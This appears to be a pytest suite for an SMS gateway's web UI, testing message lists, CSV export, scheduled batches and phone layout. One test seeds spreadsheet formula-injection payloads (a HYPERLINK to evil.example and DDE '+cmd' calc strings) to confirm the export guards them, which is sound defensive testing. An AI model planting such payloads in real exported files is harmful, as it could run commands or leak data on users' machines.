"""Messages and Scheduled in real headless Chromium (Debian's chromium, driven by Playwright with executable_path):
300 messages all reachable through the pages' links, the CSV export equal to the API's list for the same filter,
a status that turns delivered on an open page without a reload, moving and canceling a batch, a past time stopped
and "Send now", a refused edit, a deletion, and the pages on a 360 px phone; then, through Flask's test client, the
export cell for cell against the API with formulas guarded, and past times refused on the scheduled pages."""

import csv
import datetime as dt
import io
import re
import time

import pytest
from playwright import sync_api as playwright_api

from modemgw import auth
from modemgw.gateway import SubmitRequest
from tests.support import Client, logged_in_page, running_daemon

PASSWORD = "correct horse battery"
LATER = 2 * 86400
expect = playwright_api.expect


def numbers(count, start):
    return [f"+4477009{start + index:05d}" for index in range(count)]


@pytest.fixture(scope="module")
def daemon(tmp_path_factory):
    with running_daemon(tmp_path_factory, "messages-ui", {"alice": "admin", "oscar": "operator"}, modems=2,
                        sim_send_latency=0.02, sim_report_delay=0.05) as running:
        yield running


@pytest.fixture(scope="module")
def people(daemon):
    """Who sends: the web UI user alice (admin), and the API key crm (with its key for API calls)."""
    users = {user["username"]: user["id"] for user in daemon.store.users()}
    key, record = auth.create_key(daemon.store, "crm", ("send", "read"))
    return {"alice": users["alice"], "oscar": users["oscar"], "crm": record.id, "key": key}


@pytest.fixture(scope="module")
def populated(daemon, people):
    """250 messages scheduled by alice in one batch, and 50 delivered ones sent through the simulated modems
    with the API key crm."""
    gateway = daemon.gateway
    batch = gateway.send(SubmitRequest("Tomorrow's reminder", numbers(250, 2000), send_at=time.time() + LATER,
                                       user_id=people["alice"]))
    sent = gateway.send(SubmitRequest("Your code is 1234", numbers(50, 3000), api_key_id=people["crm"]))
    ids = [message["id"] for message in sent["messages"]]
    assert daemon.wait_until(lambda: all(row["status"] == "delivered" for row in gateway.store.messages(ids)), 30)
    return {"batch": batch["submission_id"], "delivered": ids}


def shown_ids(page):
    return [int(value) for value in page.locator("tbody tr[data-message-id]").evaluate_all(
        "rows => rows.map(row => row.dataset.messageId)")]


def follow(page, name):
    """Click the link `name` and wait for the page it opens."""
    with page.expect_navigation():
        page.get_by_role("link", name=name, exact=True).click()


def api_list(daemon, key, query):
    """Every message `GET /api/v1/messages?<query>` lists, following next_cursor."""
    client, rows, cursor = Client(daemon.url, key), [], None
    while True:
        status, _, page = client.call("GET", f"/api/v1/messages?{query}&limit=500"
                                             + (f"&cursor={cursor}" if cursor else ""))
        assert status == 200, page
        rows += page["data"]
        cursor = page["next_cursor"]
        if cursor is None:
            return rows


def exported(page, daemon):
    """The rows of the CSV the page's Export link downloads (with this browser's session), as dicts."""
    href = page.get_by_role("link", name="Export CSV").get_attribute("href")
    response = page.request.get(daemon.url.rstrip("/") + href)
    assert response.status == 200 and response.headers["content-type"].startswith("text/csv")
    text = response.body().decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:])))


def as_cells(view):
    """An API message as the CSV writes it: `error` as two columns, null empty, booleans true/false."""
    flat = {key: value for key, value in view.items() if key != "error"}
    flat["error_code"], flat["error_reason"] = (view["error"] or {}).get("code"), (view["error"] or {}).get("reason")
    return {key: "" if value is None else "true" if value is True else "false" if value is False else str(value)
            for key, value in flat.items()}


# --- the list -----------------------------------------------------------------------------------------------------

def test_every_message_is_reachable_through_the_pages(browser, daemon, populated):
    page = logged_in_page(browser, daemon)
    follow(page, "Messages")
    expected = [row["id"] for row in daemon.gateway.messages(100_000)]
    assert len(expected) >= 300
    pages, seen = [shown_ids(page)], list(shown_ids(page))
    while page.get_by_role("link", name="Older →").count():
        follow(page, "Older →")
        pages.append(shown_ids(page))
        seen += pages[-1]
    assert seen == expected  # every message once, newest first
    assert len(pages) >= 6 and all(len(ids) == 50 for ids in pages[:-1])
    back = []
    while page.get_by_role("link", name="← Newer").count():
        follow(page, "← Newer")
        back.append(shown_ids(page))
    assert back == pages[-2::-1]  # the same pages again, back to the newest
    expect(page.get_by_role("link", name="← Newer")).to_have_count(0)


def test_the_csv_export_is_the_apis_list_for_the_same_filter(browser, daemon, people, populated):
    page = logged_in_page(browser, daemon)
    follow(page, "Messages")
    page.get_by_label("Status").select_option("delivered")
    page.get_by_label("Sender").select_option(label="crm")
    with page.expect_navigation():
        page.get_by_role("button", name="Filter").click()
    assert sorted(shown_ids(page)) == sorted(populated["delivered"])
    rows = exported(page, daemon)
    api = api_list(daemon, people["key"], f"status=delivered&api_key_id={people['crm']}")
    assert [int(row["id"]) for row in rows] == [view["id"] for view in api] and len(rows) == 50
    assert rows == [as_cells(view) for view in api]  # cell for cell: ids, numbers, statuses, times
    assert rows[0]["to"] == api[0]["to"] and rows[0]["to"].startswith("+44")  # a number is written as it is

    today = dt.date.today().isoformat()
    page.goto(f"{daemon.url}ui/messages?status=scheduled&sender=user:{people['alice']}&from={today}&to={today}"
              "&q=reminder")
    rows = exported(page, daemon)
    midnight = dt.datetime.combine(dt.date.today(), dt.time())
    api = api_list(daemon, people["key"], f"status=scheduled&user_id={people['alice']}&q=reminder"
                                          f"&since={midnight.isoformat()}"
                                          f"&until={(midnight + dt.timedelta(days=1)).isoformat()}")
    assert len(rows) == 250 and [int(row["id"]) for row in rows] == [view["id"] for view in api]

    page.goto(f"{daemon.url}ui/messages")
    everything = exported(page, daemon)  # more rows than one page of the export reads at a time
    assert [int(row["id"]) for row in everything] == [view["id"] for view in api_list(daemon, people["key"], "")]


def test_a_queued_message_turns_delivered_without_a_reload(browser, daemon, people):
    gateway = daemon.gateway
    modems = [modem["id"] for modem in gateway.modems_now()]
    for modem_id in modems:
        gateway.update_modem(modem_id, enabled=False)
    try:
        page = logged_in_page(browser, daemon)
        follow(page, "Compose")
        page.get_by_label("Recipients").fill("+447700904444")
        page.get_by_label("Message", exact=True).fill("Live one")
        page.get_by_role("button", name="Review…").click()
        page.get_by_role("button", name="Send 1 message").click()
        expect(page.locator("#message-status")).to_have_text("queued")
        expect(page.locator("main")).to_contain_text("Sent by web UI user alice")
        message_id = int(page.locator("#message-status").get_attribute("data-message-id"))
        assert gateway.message(message_id)["user_id"] == people["alice"]  # compose records who sent it
        follow(page, "Messages")
        badge = page.locator(f'tr[data-message-id="{message_id}"] [data-status]')
        expect(badge).to_have_text("queued")
        page.evaluate("window.stillThisPage = true")
    finally:
        for modem_id in modems:
            gateway.update_modem(modem_id, enabled=True)
    expect(badge).to_have_text("delivered", timeout=20_000)
    expect(badge).to_have_class("status delivered")
    assert page.evaluate("window.stillThisPage") is True  # updated in place: no reload, no navigation


def test_the_timeline_reads_as_sentences(browser, daemon, populated):
    message_id = populated["delivered"][0]
    page = logged_in_page(browser, daemon)
    page.goto(f"{daemon.url}ui/messages/{message_id}")
    modem = daemon.gateway.message(message_id)["modem_id"]
    label = next(m for m in daemon.gateway.modems_now() if m["id"] == modem)
    reference = daemon.gateway.message(message_id)["parts"][0]["tp_mr"]
    timeline = page.locator(".timeline")
    expect(timeline).to_contain_text(f"Sent by {label['label']} ({label['number']}), reference {reference}")
    expect(timeline.locator("li .what")).to_contain_text(["Accepted", "Delivered"])
    expect(page.locator("main")).to_contain_text("Sent by API key crm")


def test_an_admin_deletes_a_message_after_confirming(browser, daemon, populated):
    message_id = populated["delivered"][-1]
    operator = logged_in_page(browser, daemon, "oscar")
    operator.goto(f"{daemon.url}ui/messages/{message_id}")
    expect(operator.get_by_text("Delete…")).to_have_count(0)
    token = operator.locator('meta[name="csrf-token"]').get_attribute("content")
    assert operator.request.post(f"{daemon.url}ui/messages/{message_id}/delete",
                                 form={"csrf_token": token}).status == 403
    page = logged_in_page(browser, daemon)
    page.goto(f"{daemon.url}ui/messages/{message_id}")
    confirm = page.get_by_role("button", name=f"Delete message {message_id}")
    expect(confirm).to_be_hidden()  # asked first
    page.get_by_text("Delete…").click()
    confirm.click()
    expect(page.get_by_role("status")).to_contain_text(f"Message {message_id} to +447700903049 deleted")
    expect(page.get_by_role("heading", name="Messages")).to_be_visible()
    assert daemon.gateway.message_statuses([message_id]) == {}
    entry = daemon.gateway.audit_log(action="message.delete")[0]
    assert (entry["actor"], entry["target"]) == ("user alice", f"message {message_id}")


# --- scheduled ----------------------------------------------------------------------------------------------------

def test_a_batch_is_moved_and_canceled_from_the_scheduled_page(browser, daemon, people):
    batch = daemon.gateway.send(SubmitRequest("Party on Friday", numbers(3, 5000), send_at=time.time() + LATER,
                                              user_id=people["alice"]))
    submission = batch["submission_id"]
    page = logged_in_page(browser, daemon)
    follow(page, "Scheduled")
    card = page.locator(f"#batch-{submission}")
    expect(card.get_by_role("heading")).to_have_text(f"Batch {submission}: 3 messages")
    expect(card).to_contain_text("Party on Friday")
    card.get_by_label("New time").fill("2099-03-04T05:06")
    card.get_by_role("button", name="Move batch").click()
    expect(page.get_by_role("status")).to_have_text(f"Batch {submission}: 3 messages now due 2099-03-04 05:06:00.")
    due = time.mktime((2099, 3, 4, 5, 6, 0, 0, 0, -1))
    assert {daemon.gateway.message(m["id"])["due_at"] for m in batch["messages"]} == {due}
    expect(card.locator(".first-due")).to_have_text("2099-03-04 05:06:00")
    assert daemon.gateway.audit_log(action="batch.reschedule")[0]["target"] == f"submission {submission}"

    card.get_by_text("Cancel batch…").click()
    card.get_by_role("button", name="Cancel 3 messages").click()
    expect(page.get_by_role("status")).to_have_text(f"Batch {submission}: 3 messages canceled.")
    expect(page.locator(f"#batch-{submission}")).to_have_count(0)
    assert {daemon.gateway.message(m["id"])["status"] for m in batch["messages"]} == {"canceled"}
    entry = daemon.gateway.audit_log(action="batch.cancel")[0]
    assert (entry["actor"], entry["target"], entry["detail"]) == ("user alice", f"submission {submission}",
                                                                 {"messages": 3})


def test_a_past_time_is_stopped_and_send_now_sends_the_batch(browser, daemon, people):
    batch = daemon.gateway.send(SubmitRequest("Doors open at 9", numbers(2, 5100), send_at=time.time() + LATER,
                                              user_id=people["alice"]))
    submission = batch["submission_id"]
    page = logged_in_page(browser, daemon)
    page.goto(f"{daemon.url}ui/scheduled/{submission}")
    field = page.get_by_label("New time")
    assert field.get_attribute("min") <= time.strftime("%Y-%m-%dT%H:%M")  # no earlier than the page's minute
    field.fill("2020-01-01T08:00")
    page.get_by_role("button", name="Move batch").click()
    assert field.evaluate("input => input.validity.rangeUnderflow")  # the browser says why; nothing was sent
    assert {daemon.gateway.message(m["id"])["status"] for m in batch["messages"]} == {"scheduled"}
    page.get_by_role("button", name="Send now").click()
    expect(page.get_by_role("status")).to_have_text(
        f"Batch {submission}: 2 messages sent now (they leave as soon as a SIM can send them).")
    ids = [message["id"] for message in batch["messages"]]
    assert daemon.wait_until(lambda: all(row["status"] == "delivered" for row in daemon.gateway.store.messages(ids)),
                             15)
    assert daemon.gateway.audit_log(action="batch.reschedule")[0]["target"] == f"submission {submission}"


def test_an_edit_over_the_segment_limit_is_refused_clearly(browser, daemon):
    batch = daemon.gateway.submit("Original text", numbers(2, 6000), send_at=time.time() + LATER)
    message_id = batch["messages"][0]["id"]
    page = logged_in_page(browser, daemon)
    page.goto(f"{daemon.url}ui/scheduled/{batch['submission_id']}")
    follow(page, f"Edit message {message_id}")
    long_text = "x" * 1600
    page.get_by_label("Message").fill(long_text)
    expect(page.locator("#counter")).to_contain_text("over the limit")  # said while typing, too
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("alert")).to_have_text(
        "Not saved: the text needs 11 segments (1600 septets, GSM-7); the limit is 10: shorten it")
    expect(page.get_by_label("Message")).to_have_value(long_text)  # what was typed is kept
    assert daemon.gateway.message(message_id)["body"] == "Original text"

    page.get_by_label("Message").fill("Short and sweet 😀")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("status")).to_have_text("Saved: 1 segment, UCS-2 (Unicode).")
    expect(page.get_by_role("heading", name=f"Batch {batch['submission_id']}")).to_be_visible()
    row = daemon.gateway.message(message_id)
    assert (row["body"], row["encoding"], row["status"]) == ("Short and sweet 😀", "ucs2", "scheduled")

    other = batch["messages"][1]["id"]
    follow(page, f"Edit message {other}")
    page.get_by_role("button", name="Cancel this message").click()
    expect(page.get_by_role("status")).to_have_text(f"Message {other} canceled.")
    assert daemon.gateway.message(other)["status"] == "canceled"
    assert daemon.gateway.message(message_id)["status"] == "scheduled"  # one message, not its batch


# --- on a phone ------------------------------------------------------------------------------------------------------

PHONE = {"viewport": {"width": 360, "height": 740}, "is_mobile": True, "has_touch": True, "device_scale_factor": 2}
CONTROLS = """() => {
  const width = document.documentElement.clientWidth;
  return Array.from(document.querySelectorAll("a, button, summary, input, select, textarea"))
    .filter((element) => element.type !== "hidden")
    .filter((element) => element.tagName === "SUMMARY" || !element.closest("details:not([open])"))
    .map((element) => {
      const box = element.getBoundingClientRect();
      return {what: element.outerHTML.slice(0, 80), shown: box.width > 0 && box.height > 0,
              inside: box.left >= -1 && box.right <= width + 1};
    })
    .filter((control) => !control.shown || !control.inside);
}"""


def check_phone_page(page):
    sideways = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert sideways <= 0, f"{page.url} scrolls sideways by {sideways} px"
    assert page.evaluate(CONTROLS) == [], page.url


def test_the_pages_fit_a_phone(browser, daemon, populated):
    page = logged_in_page(browser, daemon, **PHONE)
    scheduled_id = daemon.gateway.batch_messages(populated["batch"], 1)[0]["id"]
    for path in ("ui/messages", f"ui/messages/{populated['delivered'][0]}", f"ui/messages/{scheduled_id}",
                 "ui/scheduled", f"ui/scheduled/{populated['batch']}", f"ui/scheduled/messages/{scheduled_id}",
                 "ui/messages?status=bogus&from=yesterday"):
        page.goto(daemon.url + path)
        check_phone_page(page)
        for summary in page.locator("details summary").all():
            summary.click()  # what a confirmation shows must fit too
        check_phone_page(page)
    expect(page.get_by_role("heading", name="Messages")).to_be_visible()
    expect(page.get_by_role("alert").first).to_contain_text("is not a status")


# --- through Flask's test client (no browser) ------------------------------------------------------------------------

@pytest.fixture
def ui(app):
    """A logged-in web UI session (alice, admin) on `app`, Flask's test client."""
    import webui
    from tests.support import csrf_token

    webui.add_user(app.extensions["modemgw"].store, "alice", PASSWORD, "admin")
    client = app.test_client()
    token = csrf_token(client.get("/ui/login").get_data(as_text=True))
    answer = client.post("/ui/login", data={"username": "alice", "password": PASSWORD, "csrf_token": token})
    assert answer.status_code == 302
    return client


def local(seconds):
    return time.strftime("%Y-%m-%dT%H:%M", time.localtime(seconds))


def form_token(ui, path):
    from tests.support import csrf_token

    return csrf_token(ui.get(path).get_data(as_text=True))


def test_the_export_streams_every_message_once_across_pages_and_chunks(ui, client):
    """1,234 messages: three database pages of EXPORT_PAGE, sent in chunks of EXPORT_CHUNK; each row once, newest
    first, one header, one byte-order mark."""
    from webui.messages import EXPORT_CHUNK, EXPORT_PAGE

    gateway = client.test_client.application.extensions["modemgw"].gateway
    result = gateway.send(SubmitRequest("Reminder", [f"+4477009{index:05d}" for index in range(1234)],
                                        send_at=time.time() + LATER))
    ids = sorted((message["id"] for message in result["messages"]), reverse=True)
    answer = ui.get("/ui/messages/export.csv", buffered=False)
    chunks = list(answer.response)
    text = "".join(chunk.decode() if isinstance(chunk, bytes) else chunk for chunk in chunks)
    assert len([chunk for chunk in chunks if chunk]) >= 1234 // EXPORT_CHUNK and 2 * EXPORT_PAGE < 1234
    assert text.count("\ufeff") == 1 and text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:])))
    assert [int(row["id"]) for row in rows] == ids
    assert sum(1 for line in text.splitlines() if line.lstrip("\ufeff").startswith("id,")) == 1


def test_the_export_is_the_apis_list_cell_for_cell_and_formulas_stay_guarded(ui, client):
    """The README's promise: the same rows as GET /api/v1/messages. Numbers (recipients, amounts) are written as
    they are; only a text a spreadsheet could run gets its apostrophe."""
    gateway = client.test_client.application.extensions["modemgw"].gateway
    formulas = ['=HYPERLINK("http://evil.example/?x","Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1)"]
    for index, body in enumerate(["Your code is 1234", "+44 7700 900123", "-12.50", *formulas]):
        gateway.send(SubmitRequest(body, f"+4477009{7000 + index:05d}", client_ref=f"-{index}",
                                   send_at=time.time() + LATER))
    answer = ui.get("/ui/messages/export.csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    text = answer.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:])))
    status, _, page = client.call("GET", "/api/v1/messages?limit=500")
    assert status == 200 and len(rows) == len(page["data"]) == 7
    api = [as_cells(view) for view in page["data"]]
    guarded = {row["id"] for row in api if row["body"] in formulas}
    assert len(guarded) == 4
    assert [row for row in rows if row["id"] not in guarded] == [row for row in api if row["id"] not in guarded]
    for row, expected in zip(rows, api, strict=True):
        assert (row["id"], row["to"], row["status"], row["client_ref"]) == (
            expected["id"], expected["to"], expected["status"], expected["client_ref"])
        assert row["to"].startswith("+44") and row["client_ref"].startswith("-")  # no apostrophe
        if row["id"] in guarded:
            assert row["body"] == "'" + expected["body"]  # shown as text, never run


def test_a_past_time_is_refused_on_the_scheduled_pages_and_send_now_sends(ui, app):
    gateway = app.extensions["modemgw"].gateway
    batch = gateway.submit("Party on Friday", numbers(2, 7100), send_at=time.time() + LATER)
    submission, message_id = batch["submission_id"], batch["messages"][0]["id"]
    due = {m["id"]: gateway.message(m["id"])["due_at"] for m in batch["messages"]}
    minutes = {time.strftime("%Y-%m-%dT%H:%M")}
    page = ui.get(f"/ui/scheduled/{submission}").get_data(as_text=True)
    minutes.add(time.strftime("%Y-%m-%dT%H:%M"))  # the page was drawn within these minutes
    assert any(f'name="send_at" value="{local(due[message_id])}" min="{minute}" required>' in page
               for minute in minutes), page
    assert '<button type="submit" name="action" value="now" class="secondary" formnovalidate>Send now</button>' in page
    token = form_token(ui, f"/ui/scheduled/{submission}")
    moved = ui.post(f"/ui/scheduled/{submission}/move", data={"csrf_token": token, "send_at": "2020-01-01T08:00"},
                    follow_redirects=True).get_data(as_text=True)
    assert "Not moved: 2020-01-01 08:00 has passed: choose a later time, or Send now" in moved
    assert {key: gateway.message(key)["due_at"] for key in due} == due  # nothing moved
    assert all(event["kind"] == "message.created" for key in due for event in gateway.message(key)["timeline"])

    edit = f"/ui/scheduled/messages/{message_id}"
    page = ui.get(edit).get_data(as_text=True)
    assert 'type="datetime-local" id="send_at"' in page and 'min="' in page and ">Send now</button>" in page
    refused = ui.post(edit, data={"csrf_token": token, "send_at": "2020-01-01T08:00", "body": "New text"})
    assert refused.status_code == 400
    assert "Not saved: 2020-01-01 08:00 has passed: choose a later time, or Send now" in refused.get_data(as_text=True)
    row = gateway.message(message_id)
    assert row["body"] == "Party on Friday" and [event["kind"] for event in row["timeline"]] == ["message.created"]

    sent = ui.post(edit, data={"csrf_token": token, "send_at": "2020-01-01T08:00", "body": "New text",
                               "action": "now"})
    assert sent.status_code == 302 and sent.headers["Location"].endswith(f"/ui/messages/{message_id}")
    row = gateway.message(message_id)
    assert row["body"] == "New text" and row["due_at"] == pytest.approx(time.time(), abs=5)
    other = batch["messages"][1]["id"]
    now = ui.post(f"/ui/scheduled/{submission}/move", data={"csrf_token": token, "send_at": "", "action": "now"},
                  follow_redirects=True).get_data(as_text=True)
    # 1 message, or 2 while the alarm has not yet queued the one sent now above
    assert re.search(rf"Batch {submission}: [12] messages? sent now \(they leave as soon as a SIM can", now), now
    assert gateway.message(other)["due_at"] == pytest.approx(time.time(), abs=5)


def test_the_scheduled_list_shows_a_page_of_batches_and_leads_to_the_rest(ui, app):
    from webui.messages import BATCHES_PAGE

    gateway = app.extensions["modemgw"].gateway
    batches = [gateway.submit(f"Batch {index}", numbers(1, 7300 + index), send_at=time.time() + LATER + index * 60)
               for index in range(BATCHES_PAGE + 3)]
    first = ui.get("/ui/scheduled").get_data(as_text=True)
    shown = [batch["submission_id"] for batch in batches if f'id="batch-title-{batch["submission_id"]}"' in first]
    assert shown == [batch["submission_id"] for batch in batches[:BATCHES_PAGE]]  # the earliest due first
    assert f'href="/ui/scheduled?offset={BATCHES_PAGE}" rel="next">Later →</a>' in first
    rest = ui.get(f"/ui/scheduled?offset={BATCHES_PAGE}").get_data(as_text=True)
    assert [batch["submission_id"] for batch in batches if f'id="batch-title-{batch["submission_id"]}"' in rest] == \
        [batch["submission_id"] for batch in batches[BATCHES_PAGE:]]
    assert 'rel="prev">← Earlier</a>' in rest and "Later →" not in rest


def test_a_long_batch_text_is_cut_at_300_characters_on_every_screen_with_a_link_to_the_whole(ui, app):
    """The list shows the same part of a long text on a phone as on a desktop (it was cut by height, so a phone
    showed a third of what a desktop did, with no sign of the cut), and links to the batch for the rest."""
    gateway = app.extensions["modemgw"].gateway
    long_text = "".join(f"word{index} " for index in range(80)).strip()  # ~550 characters
    long = gateway.submit(long_text, numbers(1, 7600), send_at=time.time() + LATER)["submission_id"]
    short = gateway.submit("See you at 10:00", numbers(1, 7700), send_at=time.time() + LATER)["submission_id"]
    page = ui.get("/ui/scheduled").get_data(as_text=True)
    assert f'<p class="batch-body">{long_text[:300]}… <a href="/ui/scheduled/{long}">whole text</a></p>' in page
    assert long_text[300:310] not in page
    assert '<p class="batch-body">See you at 10:00</p>' in page and short
    assert long_text in ui.get(f"/ui/scheduled/{long}").get_data(as_text=True)


def test_a_delivery_held_behind_an_earlier_one_of_its_message_says_it_is_due(ui, app):
    """A message's webhook deliveries go in order: the second waits while the first is retried, its own time long
    past. The webhook page said "next attempt" at that past time; it says the delivery is due, after the earlier."""
    from tests.support import eventually

    daemon = app.extensions["modemgw"]
    hook = daemon.gateway.create_webhook("http://127.0.0.1:9/hook", ["message.sent", "message.delivered"])
    [message] = daemon.gateway.submit("Held", "+447700900321", send_at=time.time() + LATER)["messages"]
    for event in ("message.sent", "message.delivered"):
        daemon.store.add_webhook_deliveries(event, message["id"], [(hook["id"], hook["url"], f"e-{event}", "{}")],
                                            time.time())
    daemon.webhooks.wake()  # as the gateway does after it queues an event's deliveries

    def by_event() -> dict:
        return {row["event"]: row for row in daemon.store.deliveries_for_webhook(hook["id"])}

    assert eventually(lambda: by_event()["message.sent"]["attempts"] >= 1)  # port 9: refused, retried later
    held = by_event()["message.delivered"]
    assert held["attempts"] == 0 and held["next_attempt_at"] < time.time()
    page = ui.get(f"/ui/webhooks/{hook['id']}").get_data(as_text=True)
    row = page[page.index(f'<tr data-delivery="{held["id"]}">'):]
    assert "due now (a message's deliveries go in order: after its earlier ones)" in row[:row.index("</tr>")]


def test_a_search_reads_a_window_of_messages_per_page_and_finds_the_rest_by_its_cursor(ui, client, app):
    """A filter no index serves (a text, an API key, a user) reads at most `scan_window` message ids per page
    (`Gateway.message_page`; 10,000 in the gateway, 10 here): a search that matches nothing in the window answers
    with a short or empty page and a cursor, and following the cursors finds every match once, in order: the API,
    the web UI's "Search older messages" and the CSV export alike."""
    gateway = app.extensions["modemgw"].gateway
    gateway.scan_window = 10
    ids = [gateway.send(SubmitRequest("needle in the hay" if index in (2, 13, 14) else f"hay {index}",
                                      f"+4477009{7400 + index:05d}", send_at=time.time() + LATER))["messages"][0]["id"]
           for index in range(35)]
    needles = [ids[14], ids[13], ids[2]]  # newest first

    def pages(path: str, cursor: int | None = None) -> list[dict]:
        found, requests = [], 0
        while True:
            status, _, page = client.call("GET", path + (f"&cursor={cursor}" if cursor else ""))
            assert status == 200 and len(page["data"]) <= 2
            found.append(page)
            requests += 1
            cursor = page["next_cursor"]
            if cursor is None:
                return found
            assert requests < 10, found

    found = pages("/api/v1/messages?q=needle&limit=2")
    assert [row["id"] for page in found for row in page["data"]] == needles
    assert found[0]["data"] == [] and found[0]["next_cursor"] == ids[-1] + 1 - 10  # the newest 10 hold none
    assert [row["id"] for page in pages("/api/v1/messages?q=hay&limit=2", cursor=ids[3])
            for row in page["data"]] == [ids[2], ids[1], ids[0]]  # a page full before the window ends: as before
    # a time range is an id range: the windows start at its newest and end at its oldest
    created = {row["id"]: row["created_at"] for row in client.call("GET", "/api/v1/messages?limit=100")[2]["data"]}
    within = pages(f"/api/v1/messages?q=needle&limit=2&until={created[ids[20]]}&since={created[ids[10]]}")
    assert [row["id"] for row in within[0]["data"]] == [ids[14], ids[13]]  # no empty window above the range
    assert all(page["data"] == [] for page in within[1:]) and len(within) <= 2  # and none below it

    page = ui.get("/ui/messages?q=needle").get_data(as_text=True)
    assert "No message matches these filters." in page and 'id="searched"' in page
    shown = []
    for _ in range(5):  # each page searched ten more: "Search older messages" goes on where it stopped
        shown += [int(number) for number in re.findall(r'data-message-id="(\d+)"', page)]
        older = re.search(r'<a href="(/ui/messages\?before=\d+[^"]*)">Search older messages</a>', page)
        if older is None:
            break
        page = ui.get(older.group(1).replace("&amp;", "&")).get_data(as_text=True)
    assert shown == needles and 'id="searched"' not in page  # the last page: nothing older to search
    # "← Newer" from a window's page goes one window up, not back to the newest page
    first = ui.get(f"/ui/messages?q=needle&before={ids[-1] + 1 - 20}").get_data(as_text=True)  # the 3rd window
    newer = re.search(r'<a href="(/ui/messages\?after=\d+[^"]*)" rel="prev">', first)
    assert newer, first
    answer = ui.get(newer.group(1).replace("&amp;", "&"))
    assert answer.status_code == 200 and "No message matches these filters." in answer.get_data(as_text=True)
    assert ui.get(f"/ui/messages?q=needle&after={2**63 - 1}").status_code in (200, 302)  # no overflow
    assert ui.get("/ui/messages?q=needle&after=9999999999999999999").status_code in (200, 302)

    export = ui.get("/ui/messages/export.csv?q=needle").get_data(as_text=True)
    assert [int(row["id"]) for row in csv.DictReader(io.StringIO(export[1:]))] == needles
